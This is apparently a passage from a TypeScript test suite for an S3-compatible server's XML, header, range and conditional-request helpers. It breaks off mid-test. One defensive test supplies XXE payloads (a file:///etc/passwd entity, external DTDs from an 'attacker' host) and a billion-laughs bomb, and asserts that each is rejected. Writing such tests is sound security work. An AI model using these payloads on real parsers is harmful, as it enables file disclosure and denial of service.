/**
 * The S3 door's protocol helpers, without a server: errors and their XML, request-body parsing
 * (round trips with arbitrary Unicode keys, XXE and billion laughs refused), response rendering
 * (read back by the AWS SDK v3's own XML parser), Range and conditional-request tables against
 * RFC 7232/7233 and the S3 docs, bucket and key names (AWS's examples), and checksums (published
 * check values, incremental = one-shot, CRC combination = CRC of the concatenation).
 *
 * `@aws-sdk/xml-builder` is the XML layer of @aws-sdk/client-s3 (a devDependency): using it here
 * checks our documents against what the SDK really writes and reads.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import { parseXML, XmlNode } from "@aws-sdk/xml-builder";
import fc from "fast-check";
import {
  BodyDigests,
  type ChecksumAlgorithm,
  checksumOf,
  combineCrc,
  compositeChecksum,
  crc32,
  crc32c,
  crc64nvme,
  createHasher,
  fullObjectChecksum,
  multipartEtag,
  parseChecksumHeaders,
  parseContentMd5,
} from "../../src/api/s3/checksums.js";
import { errorXml, escapeXml, S3Error, statusOf } from "../../src/api/s3/errors.js";
import {
  collectUserMetadata,
  contentRange,
  decodeToken,
  encodeS3Url,
  encodeToken,
  evaluateConditions,
  evaluateCopySourceConditions,
  evaluateWriteConditions,
  httpDate,
  isoDate,
  parseHttpDate,
  parseRange,
  type RangeResult,
  storedHeaders,
  validateBucketName,
  validateObjectKey,
} from "../../src/api/s3/http-headers.js";
import {
  aclXml,
  corsConfigurationXml,
  corsMatch,
  deleteResultXml,
  listBucketResultV1Xml,
  listBucketResultV2Xml,
  listVersionsResultXml,
  locationConstraintXml,
  MAX_XML_BODY_BYTES,
  parseCompleteMultipartUpload,
  parseCorsConfiguration,
  parseCreateBucketConfiguration,
  parseDelete,
  parseVersioningConfiguration,
  versioningConfigurationXml,
} from "../../src/api/s3/xml.js";

/** Runs `f` and returns the S3Error it throws (failing if it throws nothing or something else). */
function s3Throws(f: () => unknown): S3Error {
  try {
    f();
  } catch (e) {
    assert.ok(e instanceof S3Error, `expected an S3Error, got ${String(e)}`);
    return e;
  }
  assert.fail("expected an S3Error");
}

/** Keys S3 accepts (validateObjectKey), of any Unicode, control characters included. */
const anyKey = fc
  .string({ unit: "binary", minLength: 1, maxLength: 40 })
  .filter((k) => validateObjectKey(k) === undefined);

// ---------------------------------------------------------------------------------------------
// Errors

test("errors carry AWS's status for their code, and 304 has no body", () => {
  const table: [ConstructorParameters<typeof S3Error>[0], number][] = [
    ["AccessDenied", 403],
    ["NoSuchKey", 404],
    ["NoSuchBucket", 404],
    ["NoSuchUpload", 404],
    ["BucketNotEmpty", 409],
    ["BucketAlreadyOwnedByYou", 409],
    ["InvalidRange", 416],
    ["MissingContentLength", 411],
    ["MethodNotAllowed", 405],
    ["PreconditionFailed", 412],
    ["NotModified", 304],
    ["NotImplemented", 501],
    ["SlowDown", 503],
    ["InternalError", 500],
    ["MalformedXML", 400],
    ["InvalidObjectState", 403],
    ["ConditionalRequestConflict", 409],
  ];
  for (const [code, status] of table) {
    const e = new S3Error(code);
    assert.equal(e.status, status, code);
    assert.equal(statusOf(code), status);
    assert.ok(e.message.length > 0);
  }
  assert.equal(new S3Error("NotModified").hasBody, false);
  assert.equal(new S3Error("NoSuchKey").hasBody, true);
  assert.equal(new S3Error("InternalError", "x", { status: 503 }).status, 503);
});

test("the Error document is escaped and carries the extra elements", () => {
  const e = new S3Error("NoSuchKey", "no <such> & 'key'", { extra: { Key: 'a"b\u0001' } });
  assert.equal(
    errorXml(e, "req-1", "/bucket/a&b"),
    '<?xml version="1.0" encoding="UTF-8"?><Error><Code>NoSuchKey</Code>' +
      "<Message>no &lt;such&gt; &amp; &apos;key&apos;</Message><Resource>/bucket/a&amp;b</Resource>" +
      "<RequestId>req-1</RequestId><Key>a&quot;b&#x1;</Key></Error>",
  );
  const own = new S3Error("NoSuchBucket", undefined, { resource: "/other" });
  assert.match(errorXml(own, "r", "/ignored"), /<Resource>\/other<\/Resource>/);
});

test("escapeXml: markup, line ends and XML-1.0-illegal characters become references", () => {
  assert.equal(
    escapeXml(`<a href="x">'&'</a>`),
    "&lt;a href=&quot;x&quot;&gt;&apos;&amp;&apos;&lt;/a&gt;",
  );
  assert.equal(escapeXml("a\r\nb\tc"), "a&#xD;&#xA;b\tc");
  assert.equal(escapeXml("\u0000\u0008\u000b\u001f\ufffe"), "&#x0;&#x8;&#xB;&#x1F;&#xFFFE;");
  assert.equal(escapeXml("ok é 😀"), "ok é 😀");
  assert.equal(escapeXml("\ud800x"), "\ufffdx");
});

// ---------------------------------------------------------------------------------------------
// Request bodies

function deleteBody(
  objects: readonly { key: string; versionId?: string | undefined }[],
  quiet: boolean | undefined,
  style: "compact" | "pretty" | "crlf" | "cdata",
): string {
  const nl = style === "pretty" ? "\n  " : style === "crlf" ? "\r\n\t" : "";
  const keyText = (k: string) =>
    style === "cdata" && !k.includes("]]>") && !k.includes("\r")
      ? `<![CDATA[${k}]]>`
      : escapeXml(k);
  let x = `<?xml version="1.0" encoding="UTF-8"?>${nl}<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/">`;
  if (quiet !== undefined) x += `${nl}<Quiet>${quiet}</Quiet>`;
  for (const o of objects) {
    x += `${nl}<Object>${nl}<Key>${keyText(o.key)}</Key>`;
    if (o.versionId !== undefined) x += `${nl}<VersionId>${escapeXml(o.versionId)}</VersionId>`;
    x += `${nl}</Object>`;
  }
  return `${x}${nl}</Delete>${nl}`;
}

test("Delete bodies round-trip any keys exactly (no trimming, no coercion), in every layout", () => {
  const objects = fc.array(
    fc.record({
      key: fc.oneof(anyKey, fc.constantFrom("0123", " a ", "true", "1e5", "  ", "a\r\nb", "&amp;")),
      versionId: fc.option(fc.stringMatching(/^[A-Za-z0-9._-]{1,32}$/), { nil: undefined }),
    }),
    { minLength: 1, maxLength: 20 },
  );
  fc.assert(
    fc.property(
      objects,
      fc.option(fc.boolean(), { nil: undefined }),
      fc.constantFrom("compact", "pretty", "crlf", "cdata"),
      (objs, quiet, style) => {
        const body = deleteBody(objs, quiet, style as "compact");
        for (const input of [body, Buffer.from(body, "utf8")]) {
          const parsed = parseDelete(input);
          assert.equal(parsed.quiet, quiet === true);
          assert.deepEqual(
            parsed.objects.map((o) => [o.key, o.versionId]),
            objs.map((o) => [o.key, o.versionId]),
          );
        }
      },
    ),
  );
});

test("Delete bodies as the AWS SDK v3 serializes them parse back to the same keys", () => {
  fc.assert(
    fc.property(fc.array(anyKey, { minLength: 1, maxLength: 10 }), (keys) => {
      const root = new XmlNode("Delete");
      root.addAttribute("xmlns", "http://s3.amazonaws.com/doc/2006-03-01/");
      for (const k of keys)
        root.addChildNode(new XmlNode("Object").addChildNode(XmlNode.of("Key", k)));
      root.addChildNode(XmlNode.of("Quiet", "true"));
      const parsed = parseDelete(root.toString());
      assert.deepEqual(
        parsed.objects.map((o) => o.key),
        keys,
      );
      assert.equal(parsed.quiet, true);
    }),
  );
});

test("CompleteMultipartUpload round-trips parts, ETags (quoted or not) and checksums", () => {
  const part = fc.record({
    gap: fc.integer({ min: 1, max: 50 }),
    etag: fc.stringMatching(/^[0-9a-f]{32}$/),
    quoted: fc.boolean(),
    crc32: fc.option(fc.constantFrom("y/Q5Jg==", "AAAAAA=="), { nil: undefined }),
    sha256: fc.option(fc.constant("47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="), {
      nil: undefined,
    }),
  });
  fc.assert(
    fc.property(fc.array(part, { minLength: 1, maxLength: 30 }), fc.boolean(), (parts, pretty) => {
      const nl = pretty ? "\n    " : "";
      let n = 0;
      const numbered = parts.map((p) => {
        n += p.gap;
        return { ...p, partNumber: n };
      });
      fc.pre(n <= 10_000);
      let body = "<CompleteMultipartUpload>";
      for (const p of numbered) {
        body += `${nl}<Part>${nl}<PartNumber>${p.partNumber}</PartNumber>${nl}<ETag>${escapeXml(p.quoted ? `"${p.etag}"` : p.etag)}</ETag>`;
        if (p.crc32) body += `<ChecksumCRC32>${p.crc32}</ChecksumCRC32>`;
        if (p.sha256) body += `<ChecksumSHA256>${nl}${p.sha256}${nl}</ChecksumSHA256>`;
        body += `${nl}</Part>`;
      }
      body += `${nl}</CompleteMultipartUpload>`;
      const parsed = parseCompleteMultipartUpload(body);
      assert.deepEqual(
        parsed.parts,
        numbered.map((p) => ({
          partNumber: p.partNumber,
          etag: p.etag,
          checksums: {
            ...(p.crc32 ? { CRC32: p.crc32 } : {}),
            ...(p.sha256 ? { SHA256: p.sha256 } : {}),
          },
        })),
      );
    }),
  );
});

test("CompleteMultipartUpload: S3's errors for empty, unordered and out-of-range parts", () => {
  const part = (n: string, etag = '"abc"') =>
    `<Part><PartNumber>${n}</PartNumber><ETag>${etag}</ETag></Part>`;
  const doc = (...parts: string[]) =>
    `<CompleteMultipartUpload>${parts.join("")}</CompleteMultipartUpload>`;
  assert.equal(s3Throws(() => parseCompleteMultipartUpload(doc())).code, "MalformedXML");
  assert.equal(s3Throws(() => parseCompleteMultipartUpload("")).code, "MalformedXML");
  assert.equal(
    s3Throws(() => parseCompleteMultipartUpload(doc(part("2"), part("1")))).code,
    "InvalidPartOrder",
  );
  assert.equal(
    s3Throws(() => parseCompleteMultipartUpload(doc(part("1"), part("1")))).code,
    "InvalidPartOrder",
  );
  assert.equal(
    s3Throws(() => parseCompleteMultipartUpload(doc(part("0")))).code,
    "InvalidArgument",
  );
  assert.equal(
    s3Throws(() => parseCompleteMultipartUpload(doc(part("10001")))).code,
    "InvalidArgument",
  );
  assert.equal(s3Throws(() => parseCompleteMultipartUpload(doc(part("x")))).code, "MalformedXML");
  assert.equal(
    s3Throws(() => parseCompleteMultipartUpload(doc("<Part><PartNumber>1</PartNumber></Part>")))
      .code,
    "MalformedXML",
  );
  assert.equal(s3Throws(() => parseCompleteMultipartUpload("<Delete/>")).code, "MalformedXML");
  // &quot; is how SDKs send the quotes; W/ is tolerated.
  assert.equal(
    parseCompleteMultipartUpload(doc(part(" 7 ", "&quot;abc&quot;"))).parts[0]?.etag,
    "abc",
  );
});

test("XXE and billion laughs are refused before anything expands", () => {
  const laughs =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from({ length: 9 }, (_, i) => {
      const prev = i === 0 ? "lol" : `lol${i}`;
      return `<!ENTITY lol${i + 1} "${`&${prev};`.repeat(10)}">`;
    }).join("") +
    "]><Delete><Object><Key>&lol9;</Key></Object></Delete>";
  const bodies = [
    laughs,
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&xxe;</Key></Object></Delete>',
    '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker/x.dtd"> %p;]><Delete><Object><Key>a</Key></Object></Delete>',
    '<!doctype Delete SYSTEM "http://attacker/x.dtd"><Delete><Object><Key>a</Key></Object></Delete>',
    // An entity used without any declaration is not expanded either.
    "<Delete><Object><Key>&xxe;</Key></Object></Delete>",
    "<Delete><Object><Key>a & b</Key></Object></Delete>",
  ];
  for (const b of bodies) {
    const started = performance.now();
    assert.equal(s3Throws(() => parseDelete(b)).code, "MalformedXML", b);
    assert.ok(performance.now() - started < 1000);
  }
});

test("bodies: size bound, encoding, one root of the right name, well-formedness", () => {
  const ok = "<Delete><Object><Key>a</Key></Object></Delete>";
  const pad = `<!--${"x".repeat(MAX_XML_BODY_BYTES)}-->`;
  assert.equal(s3Throws(() => parseDelete(ok + pad)).code, "MalformedXML");
  assert.equal(s3Throws(() => parseDelete(Buffer.from([0x3c, 0xff, 0xfe]))).code, "MalformedXML");
  assert.equal(
    parseDelete(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(ok)])).objects.length,
    1,
  );
  for (const bad of [
    "<Nope><Object><Key>a</Key></Object></Nope>",
    `${ok}<Delete/>`,
    `${ok}junk`,
    "<Delete><Object><Key>a</Key></Object>",
    "<Delete><Object><Key>a</Object></Key></Delete>",
    "<Delete><Object><VersionId>v</VersionId></Object></Delete>",
    "<Delete><Object><Key>a</Key><Key>b</Key></Object></Delete>",
    "<Delete><Object><Key><b>a</b></Key></Object></Delete>",
    "<Delete>text<Object><Key>a</Key></Object></Delete>",
    "<Delete><Object><Key>a</Key></Object><Quiet>yes</Quiet></Delete>",
    "<Delete><Object><Key>&#0;</Key></Object></Delete>",
    "<Delete><Object><Key>&#xD800;</Key></Object></Delete>",
    "<Delete></Delete>",
    "",
  ]) {
    assert.equal(s3Throws(() => parseDelete(bad)).code, "MalformedXML", bad);
  }
  const many = `<Delete>${"<Object><Key>k</Key></Object>".repeat(1001)}</Delete>`;
  assert.equal(s3Throws(() => parseDelete(many)).code, "MalformedXML");
  assert.equal(
    parseDelete(`<Delete>${"<Object><Key>k</Key></Object>".repeat(1000)}</Delete>`).objects.length,
    1000,
  );
  // Namespace prefixes, comments and processing instructions are fine.
  assert.deepEqual(
    parseDelete(
      '<s3:Delete xmlns:s3="http://s3.amazonaws.com/doc/2006-03-01/"><!-- c --><?pi x?><s3:Object><s3:Key>a<!-- c -->b</s3:Key></s3:Object></s3:Delete>',
    ).objects,
    [{ key: "ab" }],
  );
});

test("CreateBucketConfiguration, VersioningConfiguration: S3's cases", () => {
  assert.deepEqual(parseCreateBucketConfiguration(""), {});
  assert.deepEqual(parseCreateBucketConfiguration(Buffer.alloc(0)), {});
  assert.deepEqual(
    parseCreateBucketConfiguration(
      '<CreateBucketConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><LocationConstraint> eu-west-1 </LocationConstraint></CreateBucketConfiguration>',
    ),
    { locationConstraint: "eu-west-1" },
  );
  assert.deepEqual(parseCreateBucketConfiguration("<CreateBucketConfiguration/>"), {});
  assert.equal(s3Throws(() => parseCreateBucketConfiguration("<Bucket/>")).code, "MalformedXML");

  const v = (inner: string) =>
    `<VersioningConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/">${inner}</VersioningConfiguration>`;
  assert.equal(parseVersioningConfiguration(v("<Status>Enabled</Status>")), "Enabled");
  assert.equal(
    parseVersioningConfiguration(v("<Status>Suspended</Status><MfaDelete>Disabled</MfaDelete>")),
    "Suspended",
  );
  assert.equal(
    s3Throws(() => parseVersioningConfiguration(v(""))).code,
    "IllegalVersioningConfigurationException",
  );
  assert.equal(
    s3Throws(() => parseVersioningConfiguration(v("<Status>enabled</Status>"))).code,
    "MalformedXML",
  );
  assert.equal(
    s3Throws(() =>
      parseVersioningConfiguration(v("<Status>Enabled</Status><MfaDelete>Enabled</MfaDelete>")),
    ).code,
    "NotImplemented",
  );
  assert.equal(s3Throws(() => parseVersioningConfiguration("")).code, "MalformedXML");
});

test("CORS configuration: parse, validate, render and parse again", () => {
  const body = `<CORSConfiguration>
    <CORSRule>
      <ID>web</ID>
      <AllowedOrigin>http://*.example.com</AllowedOrigin>
      <AllowedOrigin>https://app.example.org</AllowedOrigin>
      <AllowedMethod>GET</AllowedMethod>
      <AllowedMethod>PUT</AllowedMethod>
      <AllowedHeader>x-amz-*</AllowedHeader>
      <AllowedHeader>Content-Type</AllowedHeader>
      <ExposeHeader>ETag</ExposeHeader>
      <MaxAgeSeconds>3000</MaxAgeSeconds>
    </CORSRule>
    <CORSRule><AllowedOrigin>*</AllowedOrigin><AllowedMethod>HEAD</AllowedMethod></CORSRule>
  </CORSConfiguration>`;
  const rules = parseCorsConfiguration(body);
  assert.deepEqual(rules, [
    {
      id: "web",
      allowedOrigins: ["http://*.example.com", "https://app.example.org"],
      allowedMethods: ["GET", "PUT"],
      allowedHeaders: ["x-amz-*", "Content-Type"],
      exposeHeaders: ["ETag"],
      maxAgeSeconds: 3000,
    },
    { allowedOrigins: ["*"], allowedMethods: ["HEAD"], allowedHeaders: [], exposeHeaders: [] },
  ]);
  assert.deepEqual(parseCorsConfiguration(corsConfigurationXml(rules)), rules);

  const rule = (inner: string) =>
    `<CORSConfiguration><CORSRule>${inner}</CORSRule></CORSConfiguration>`;
  assert.equal(
    s3Throws(() => parseCorsConfiguration(rule("<AllowedMethod>GET</AllowedMethod>"))).code,
    "MalformedXML",
  );
  assert.equal(
    s3Throws(() => parseCorsConfiguration(rule("<AllowedOrigin>*</AllowedOrigin>"))).code,
    "MalformedXML",
  );
  const patch = s3Throws(() =>
    parseCorsConfiguration(
      rule("<AllowedOrigin>*</AllowedOrigin><AllowedMethod>PATCH</AllowedMethod>"),
    ),
  );
  assert.equal(patch.code, "InvalidRequest");
  assert.match(patch.message, /Unsupported method is PATCH/);
  assert.equal(
    s3Throws(() =>
      parseCorsConfiguration(
        rule("<AllowedOrigin>http://*.*.com</AllowedOrigin><AllowedMethod>GET</AllowedMethod>"),
      ),
    ).code,
    "InvalidRequest",
  );
  assert.equal(s3Throws(() => parseCorsConfiguration("<CORSConfiguration/>")).code, "MalformedXML");
  const one =
    "<CORSRule><AllowedOrigin>*</AllowedOrigin><AllowedMethod>GET</AllowedMethod></CORSRule>";
  assert.equal(
    parseCorsConfiguration(`<CORSConfiguration>${one.repeat(100)}</CORSConfiguration>`).length,
    100,
  );
  assert.equal(
    s3Throws(() =>
      parseCorsConfiguration(`<CORSConfiguration>${one.repeat(101)}</CORSConfiguration>`),
    ).code,
    "MalformedXML",
  );
});

test("corsMatch: wildcard origins, exact methods, case-insensitive headers, first match wins", () => {
  const rules = parseCorsConfiguration(`<CORSConfiguration>
    <CORSRule><ID>a</ID><AllowedOrigin>http://*.example.com</AllowedOrigin><AllowedMethod>GET</AllowedMethod>
      <AllowedHeader>x-amz-*</AllowedHeader><AllowedHeader>Content-Type</AllowedHeader></CORSRule>
    <CORSRule><ID>b</ID><AllowedOrigin>*</AllowedOrigin><AllowedMethod>PUT</AllowedMethod><AllowedHeader>*</AllowedHeader></CORSRule>
    <CORSRule><ID>c</ID><AllowedOrigin>https://exact.org</AllowedOrigin><AllowedMethod>GET</AllowedMethod></CORSRule>
  </CORSConfiguration>`);
  const id = (origin: string, method: string, headers: string[] = []) =>
    corsMatch(rules, origin, method, headers)?.id;
  assert.equal(id("http://www.example.com", "GET"), "a");
  assert.equal(id("http://a.b.example.com", "GET", ["X-Amz-Date", "content-type"]), "a");
  assert.equal(id("http://www.example.com", "GET", ["authorization"]), undefined);
  assert.equal(id("https://www.example.com", "GET"), undefined);
  assert.equal(id("http://example.com", "GET"), undefined);
  assert.equal(id("http://evil.com", "PUT", ["Anything", "x-y"]), "b");
  assert.equal(id("https://exact.org", "GET"), "c");
  assert.equal(id("https://exact.org", "DELETE"), undefined);
  assert.equal(id("https://exact.org", "get"), undefined);
});

// ---------------------------------------------------------------------------------------------
// Rendering

test("listings render as S3 does and the AWS SDK's XML parser reads the keys back", () => {
  fc.assert(
    fc.property(fc.array(anyKey, { minLength: 1, maxLength: 10 }), (keys) => {
      // The SDK's parser turns text that is only whitespace with a newline into "": S3's too.
      fc.pre(keys.every((k) => !(k.trim() === "" && /[\n\r\u0085\u2028]/.test(k))));
      const xml = listBucketResultV2Xml({
        name: "bucket",
        prefix: "",
        maxKeys: 1000,
        isTruncated: false,
        contents: keys.map((key) => ({ key, lastModified: 0, etag: "abc", size: 1 })),
        commonPrefixes: ["p/"],
      });
      const doc = parseXML(xml) as { ListBucketResult: { Contents: unknown } };
      const contents = doc.ListBucketResult.Contents;
      const list = (Array.isArray(contents) ? contents : [contents]) as { Key: string }[];
      assert.deepEqual(
        list.map((c) => c.Key),
        keys,
      );
    }),
  );
});

test("ListBucketResult V1/V2, ListVersionsResult: elements, quoting, dates, interleaving", () => {
  const v2 = listBucketResultV2Xml({
    name: "b",
    prefix: "a/",
    delimiter: "/",
    maxKeys: 2,
    isTruncated: true,
    encodingType: "url",
    continuationToken: "t1",
    nextContinuationToken: "t2",
    contents: [
      {
        key: "a/x",
        lastModified: Date.UTC(2006, 1, 3, 16, 45, 9),
        etag: '"0123"',
        size: 5,
        checksumAlgorithm: ["crc32"],
      },
    ],
    commonPrefixes: ["a/y/"],
  });
  assert.ok(
    v2.startsWith(
      '<?xml version="1.0" encoding="UTF-8"?><ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/">',
    ),
  );
  for (const part of [
    "<Name>b</Name>",
    "<Prefix>a/</Prefix>",
    "<ContinuationToken>t1</ContinuationToken>",
    "<NextContinuationToken>t2</NextContinuationToken>",
    "<KeyCount>2</KeyCount>",
    "<MaxKeys>2</MaxKeys>",
    "<Delimiter>/</Delimiter>",
    "<EncodingType>url</EncodingType>",
    "<IsTruncated>true</IsTruncated>",
    "<Contents><Key>a/x</Key><LastModified>2006-02-03T16:45:09.000Z</LastModified><ETag>&quot;0123&quot;</ETag><ChecksumAlgorithm>CRC32</ChecksumAlgorithm><Size>5</Size><StorageClass>STANDARD</StorageClass></Contents>",
    "<CommonPrefixes><Prefix>a/y/</Prefix></CommonPrefixes>",
  ]) {
    assert.ok(v2.includes(part), part);
  }
  const v1 = listBucketResultV1Xml({
    name: "b",
    maxKeys: 1000,
    isTruncated: false,
    contents: [],
    commonPrefixes: [],
  });
  assert.match(
    v1,
    /<Prefix><\/Prefix><Marker><\/Marker><MaxKeys>1000<\/MaxKeys><IsTruncated>false<\/IsTruncated>/,
  );
  assert.doesNotMatch(v1, /Delimiter|NextMarker|EncodingType/);

  const versions = listVersionsResultXml({
    name: "b",
    maxKeys: 10,
    isTruncated: false,
    versions: [
      { key: "k", versionId: "3", isLatest: true, lastModified: 3000, deleteMarker: true },
      { key: "k", versionId: "2", isLatest: false, lastModified: 2000, etag: "e2", size: 2 },
      { key: "k", versionId: "1", isLatest: false, lastModified: 1000, deleteMarker: true },
      {
        key: "l",
        versionId: "null",
        isLatest: true,
        lastModified: "2020-01-01T00:00:00.000Z",
        etag: "e0",
        size: 0,
      },
    ],
    commonPrefixes: [],
  });
  const order = [
    ...versions.matchAll(/<(Version|DeleteMarker)><Key>[^<]*<\/Key><VersionId>([^<]*)</g),
  ].map((m) => `${m[1]}:${m[2]}`);
  assert.deepEqual(order, ["DeleteMarker:3", "Version:2", "DeleteMarker:1", "Version:null"]);
  assert.match(
    versions,
    /<DeleteMarker><Key>k<\/Key><VersionId>3<\/VersionId><IsLatest>true<\/IsLatest><LastModified>1970-01-01T00:00:03.000Z<\/LastModified><\/DeleteMarker>/,
  );
  assert.match(
    versions,
    /<LastModified>2020-01-01T00:00:00.000Z<\/LastModified><ETag>&quot;e0&quot;<\/ETag>/,
  );
});

test("small documents: versioning never set, location, ACL, DeleteResult", () => {
  assert.doesNotMatch(versioningConfigurationXml(undefined), /Status/);
  assert.match(versioningConfigurationXml("Suspended"), /<Status>Suspended<\/Status>/);
  assert.match(
    locationConstraintXml("us-east-1"),
    /<LocationConstraint xmlns="[^"]+"><\/LocationConstraint>$/,
  );
  assert.match(locationConstraintXml("eu-west-1"), />eu-west-1<\/LocationConstraint>$/);
  assert.match(
    aclXml({ ownerId: "o", publicRead: true }),
    /xsi:type="Group"><URI>http:\/\/acs.amazonaws.com\/groups\/global\/AllUsers<\/URI><\/Grantee><Permission>READ</,
  );
  assert.doesNotMatch(aclXml({ ownerId: "o", publicRead: false }), /AllUsers/);
  assert.match(
    deleteResultXml({
      deleted: [{ key: "a<", deleteMarker: true, deleteMarkerVersionId: "v1" }],
      errors: [{ key: "b", code: "AccessDenied", message: "Access Denied" }],
    }),
    /<DeleteResult xmlns="[^"]+"><Deleted><Key>a&lt;<\/Key><DeleteMarker>true<\/DeleteMarker><DeleteMarkerVersionId>v1<\/DeleteMarkerVersionId><\/Deleted><Error><Key>b<\/Key><Code>AccessDenied<\/Code><Message>Access Denied<\/Message><\/Error><\/DeleteResult>$/,
  );
});

// ---------------------------------------------------------------------------------------------
// Range

test("Range: the table (RFC 7233 as S3 applies it)", () => {
  const r = (start: number, end: number): RangeResult => ({ kind: "range", start, end });
  const none: RangeResult = { kind: "none" };
  const ignore: RangeResult = { kind: "ignore" };
  const unsat: RangeResult = { kind: "unsatisfiable" };
  const table: [string | undefined, number, RangeResult][] = [
    [undefined, 10, none],
    ["bytes=0-4", 10, r(0, 4)],
    ["bytes=5-", 10, r(5, 9)],
    ["bytes=-3", 10, r(7, 9)],
    ["bytes=-20", 10, r(0, 9)],
    ["bytes=0-100", 10, r(0, 9)],
    ["bytes=9-9", 10, r(9, 9)],
    ["bytes=0-0", 10, r(0, 0)],
    ["bytes=10-", 10, unsat],
    ["bytes=10-20", 10, unsat],
    ["bytes=-0", 10, unsat],
    ["bytes=99999999999999999999-", 10, unsat],
    ["bytes=0-99999999999999999999", 10, r(0, 9)],
    ["bytes=5-2", 10, ignore],
    ["bytes=0-1,3-4", 10, ignore],
    ["bytes=0-1,", 10, ignore],
    ["bytes=abc", 10, ignore],
    ["bytes=-", 10, ignore],
    ["bytes=1", 10, ignore],
    ["bytes=+1-2", 10, ignore],
    ["bytes=-1-2", 10, ignore],
    ["items=0-1", 10, ignore],
    ["0-1", 10, ignore],
    ["", 10, ignore],
    ["BYTES=0-4", 10, r(0, 4)],
    ["bytes= 0-4 ", 10, r(0, 4)],
    // An empty object has no satisfiable range (S3: 416 for any range on it).
    ["bytes=0-", 0, unsat],
    ["bytes=0-0", 0, unsat],
    ["bytes=-5", 0, unsat],
    ["bytes=3-1", 0, ignore],
    [undefined, 0, none],
  ];
  for (const [h, size, want] of table)
    assert.deepEqual(parseRange(h, size), want, `${h} / ${size}`);
  assert.equal(contentRange(7, 9, 10), "bytes 7-9/10");
});

test("Range agrees with a reference model", () => {
  type Spec = { first?: number | undefined; last?: number | undefined };
  const model = (spec: Spec, size: number): RangeResult => {
    if (spec.first === undefined && spec.last === undefined) return { kind: "ignore" };
    if (spec.first === undefined) {
      const n = spec.last as number;
      if (n === 0 || size === 0) return { kind: "unsatisfiable" };
      return { kind: "range", start: Math.max(0, size - n), end: size - 1 };
    }
    if (spec.last !== undefined && spec.last < spec.first) return { kind: "ignore" };
    if (spec.first >= size) return { kind: "unsatisfiable" };
    return { kind: "range", start: spec.first, end: Math.min(spec.last ?? size - 1, size - 1) };
  };
  const num = fc.option(fc.nat({ max: 200 }), { nil: undefined });
  fc.assert(
    fc.property(num, num, fc.nat({ max: 150 }), (first, last, size) => {
      const header = `bytes=${first ?? ""}-${last ?? ""}`;
      assert.deepEqual(parseRange(header, size), model({ first, last }, size), header);
    }),
  );
});

// ---------------------------------------------------------------------------------------------
// Conditions

const obj = { etag: '"abc"', lastModifiedMs: Date.UTC(2024, 0, 10, 12, 0, 0, 500) };
const BEFORE = "Tue, 09 Jan 2024 12:00:00 GMT";
const SAME_SECOND = "Wed, 10 Jan 2024 12:00:00 GMT";
const AFTER = "Thu, 11 Jan 2024 12:00:00 GMT";

test("conditional GET/HEAD: every RFC 7232 case, with S3's documented combinations", () => {
  type H = Parameters<typeof evaluateConditions>[0];
  const table: [string, H, 200 | 304 | 412][] = [
    ["no conditions", {}, 200],
    ["If-Match quoted", { ifMatch: '"abc"' }, 200],
    ["If-Match unquoted (S3 accepts)", { ifMatch: "abc" }, 200],
    ["If-Match list", { ifMatch: '"x", "abc"' }, 200],
    ["If-Match *", { ifMatch: "*" }, 200],
    ["If-Match other", { ifMatch: '"x"' }, 412],
    ["If-Match weak (strong comparison)", { ifMatch: 'W/"abc"' }, 412],
    ["If-Match empty is absent", { ifMatch: "" }, 200],
    ["If-None-Match same", { ifNoneMatch: '"abc"' }, 304],
    ["If-None-Match unquoted", { ifNoneMatch: "abc" }, 304],
    ["If-None-Match weak (weak comparison)", { ifNoneMatch: 'W/"abc"' }, 304],
    ["If-None-Match list", { ifNoneMatch: '"x", W/"abc"' }, 304],
    ["If-None-Match *", { ifNoneMatch: "*" }, 304],
    ["If-None-Match other", { ifNoneMatch: '"x"' }, 200],
    ["If-Modified-Since before", { ifModifiedSince: BEFORE }, 200],
    ["If-Modified-Since same second", { ifModifiedSince: SAME_SECOND }, 304],
    ["If-Modified-Since after", { ifModifiedSince: AFTER }, 304],
    ["If-Modified-Since unparseable", { ifModifiedSince: "yesterday" }, 200],
    ["If-Modified-Since '1' (Date.parse would say 2001)", { ifModifiedSince: "1" }, 200],
    ["If-Modified-Since RFC 850", { ifModifiedSince: "Thursday, 11-Jan-24 12:00:00 GMT" }, 304],
    ["If-Modified-Since asctime", { ifModifiedSince: "Tue Jan  9 12:00:00 2024" }, 200],
    ["If-Unmodified-Since before", { ifUnmodifiedSince: BEFORE }, 412],
    ["If-Unmodified-Since same second", { ifUnmodifiedSince: SAME_SECOND }, 200],
    ["If-Unmodified-Since after", { ifUnmodifiedSince: AFTER }, 200],
    ["If-Unmodified-Since unparseable", { ifUnmodifiedSince: "soon" }, 200],
    // S3 docs: If-Match true + If-Unmodified-Since false → 200.
    [
      "If-Match true, If-Unmodified-Since false",
      { ifMatch: '"abc"', ifUnmodifiedSince: BEFORE },
      200,
    ],
    ["If-Match false, If-Unmodified-Since true", { ifMatch: '"x"', ifUnmodifiedSince: AFTER }, 412],
    // S3 docs: If-None-Match false + If-Modified-Since true → 304.
    [
      "If-None-Match false, If-Modified-Since true",
      { ifNoneMatch: '"abc"', ifModifiedSince: BEFORE },
      304,
    ],
    [
      "If-None-Match true, If-Modified-Since false",
      { ifNoneMatch: '"x"', ifModifiedSince: AFTER },
      200,
    ],
    ["If-Match false beats If-None-Match", { ifMatch: '"x"', ifNoneMatch: '"abc"' }, 412],
    [
      "If-Unmodified-Since false beats If-None-Match",
      { ifUnmodifiedSince: BEFORE, ifNoneMatch: '"abc"' },
      412,
    ],
    ["If-Match true, If-None-Match false", { ifMatch: '"abc"', ifNoneMatch: '"abc"' }, 304],
    [
      "If-Unmodified-Since false beats If-Modified-Since",
      { ifUnmodifiedSince: BEFORE, ifModifiedSince: AFTER },
      412,
    ],
  ];
  for (const method of ["GET", "HEAD"] as const) {
    for (const [name, h, want] of table) {
